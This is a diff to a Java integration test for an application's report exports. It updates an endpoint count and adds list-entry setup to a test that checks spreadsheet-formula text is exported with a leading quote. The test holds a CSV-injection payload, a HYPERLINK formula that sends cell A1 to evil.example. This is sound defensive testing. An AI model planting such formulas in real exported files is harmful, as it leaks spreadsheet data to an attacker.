@@ -90,8 +90,9 @@ class OrdinaryInputIT {
         clock.setUk("2026-11-23T10:00");
         List<DateRead> reads = dateReads();
         List<String> reports = reads.stream().map(DateRead::path).filter(p -> p.contains("/reports")).distinct().toList();
-        // measure, its cases, dashboard, returns, their CSV and Excel (6), one measure's CSV and Excel, Board, annual, self-assessment
-        assertThat(reports).as("report endpoints found in the handler mapping").hasSize(13);
+        // measure, its cases, dashboard, returns, their CSV and Excel (6), one measure's CSV and Excel, Board, annual, self-assessment,
+        // points by category (issue 20)
+        assertThat(reports).as("report endpoints found in the handler mapping").hasSize(14);
         assertThat(reads).extracting(DateRead::path).contains(BASE + "/retention/dry-run");
 
         List<String> wrong = new ArrayList<>();
@@ -189,6 +190,9 @@ class OrdinaryInputIT {
     void textThatWouldRunAsASpreadsheetFormulaIsExportedAsTextWithALeadingQuote() throws Exception {
         clock.setUk("2026-11-23T10:00");
         String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
+        // a value not on the organisation's lists is refused (issue 20): here an administrator typed these onto them
+        assertThat(api().post(BASE + "/lists/service-areas/entries", "{\"name\":" + json(formula) + "}").status()).isEqualTo(200);
+        assertThat(api().post(BASE + "/lists/subjects/entries", "{\"name\":" + json("@SUM(1+1)") + "}").status()).isEqualTo(200);
         newCase("=HYPERLINK(\"https://evil.example\",\"Name\")", formula, "@SUM(1+1)");
         List<CSVRecord> received = csv(BASE + "/reports/measures/received-by-service-area/export.csv?from=2026-11-01&to=2026-11-30");
         assertThat(received).extracting(rec -> rec.get("group")).contains("'" + formula).doesNotContain(formula);
